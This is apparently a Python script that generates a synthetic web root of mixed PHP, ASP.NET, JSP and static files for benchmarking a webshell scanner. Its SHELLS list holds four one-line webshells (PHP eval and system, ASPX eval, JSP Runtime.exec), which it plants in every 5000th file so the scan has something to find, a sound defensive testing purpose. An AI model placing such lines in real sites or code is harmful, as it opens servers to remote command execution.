#!/usr/bin/env python3
"""Generates a deterministic synthetic web root for benchmarks.

usage: gen_webroot.py OUT_DIR [--files N] [--seed S]

The tree mixes PHP, ASP.NET, JSP, JavaScript, CSS, HTML, JSON and binary image files with a
long-tailed size distribution (median about 4 KiB, a few files of several MiB), and plants a
handful of inert webshell lines (the same kind the fixtures carry) so that a scan has
something to find. The same seed always gives the same bytes.
"""
import argparse
import os
import random

WORDS = ("user post page id name value config cache session request response data item list "
         "render template query result error message admin login logout upload image file path "
         "title content author date status count total index search filter sort limit offset").split()

PHP_LINES = [
    "$%s = isset($_GET['%s']) ? intval($_GET['%s']) : 0;",
    "echo htmlspecialchars($%s, ENT_QUOTES, 'UTF-8');",
    "function %s_%s($%s) { return array_map('trim', (array) $%s); }",
    "$%s = $wpdb->get_results($wpdb->prepare(\"SELECT * FROM %s WHERE id = %%d\", $%s));",
    "if (!empty($_POST['%s'])) { update_option('%s', sanitize_text_field($_POST['%s'])); }",
    "// %s %s %s %s",
    "include_once __DIR__ . '/%s/%s.php';",
]
CS_LINES = [
    "protected void %s_%s(object sender, EventArgs e) { var %s = Request.QueryString[\"%s\"]; }",
    "<asp:Label ID=\"%s\" runat=\"server\" Text=\"%s %s\" /> <!-- %s -->",
    "var %s = new List<string> { \"%s\", \"%s\", \"%s\" };",
    "Response.Write(Server.HtmlEncode(%s.%s(%s, %s)));",
]
JSP_LINES = [
    "<%% String %s = request.getParameter(\"%s\"); %%>",
    "<c:out value=\"${%s.%s}\" /> <%%-- %s %s --%%>",
    "List<String> %s = service.find%s(%s, %s);",
]
JS_LINES = [
    "function %s(%s, %s) { return %s.map(function (x) { return x + 1; }); }",
    "var %s = document.getElementById('%s'); %s.addEventListener('click', %s);",
    "/* %s %s %s %s */",
]
CSS_LINES = [".%s-%s { margin: 0 auto; padding: 4px; } /* %s %s */"]
HTML_LINES = ["<div class=\"%s\"><a href=\"/%s/%s\">%s</a></div>"]

KINDS = [  # (extension, lines, weight)
    ("php", PHP_LINES, 30), ("inc", PHP_LINES, 3), ("aspx", CS_LINES, 8), ("cs", CS_LINES, 4),
    ("jsp", JSP_LINES, 6), ("js", JS_LINES, 20), ("css", CSS_LINES, 8), ("html", HTML_LINES, 8),
    ("json", JS_LINES, 3), ("png", None, 7), ("jpg", None, 3),
]

SHELLS = [
    ("php", b"<?php @eval($_POST['x']);?>\n"),
    ("php", b"<?php system($_GET['c']); ?>\n"),
    ("aspx", b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>\n"),
    ("jsp", b"<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n"),
]


def size_for(rng):
    # Long tail: median about 4 KiB, about 1% above 256 KiB, a few above 2 MiB.
    s = int(rng.lognormvariate(8.3, 1.3))
    return max(64, min(s, 6 << 20))


def text_file(rng, lines, size):
    out = []
    n = 0
    while n < size:
        tmpl = rng.choice(lines)
        k = tmpl.count("%s")
        line = tmpl % tuple(rng.choice(WORDS) for _ in range(k))
        out.append(line)
        n += len(line) + 1
    return ("\n".join(out) + "\n").encode()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--files", type=int, default=50000)
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    weights = [k[2] for k in KINDS]
    total = 0
    for i in range(args.files):
        ext, lines, _ = rng.choices(KINDS, weights)[0]
        d = os.path.join(args.out, "site%d" % (i % 7), rng.choice(WORDS), rng.choice(WORDS))
        os.makedirs(d, exist_ok=True)
        size = size_for(rng)
        if lines is None:
            data = bytes(rng.getrandbits(8) for _ in range(min(size, 200_000)))
        else:
            data = text_file(rng, lines, size)
        if i % 5000 == 4999:
            sext, shell = SHELLS[(i // 5000) % len(SHELLS)]
            ext = sext
            data = data[: len(data) // 2] + b"\n" + shell + data[len(data) // 2:]
        with open(os.path.join(d, "f%d.%s" % (i, ext)), "wb") as f:
            f.write(data)
        total += len(data)
    print("wrote %d files, %d bytes" % (args.files, total))


if __name__ == "__main__":
    main()
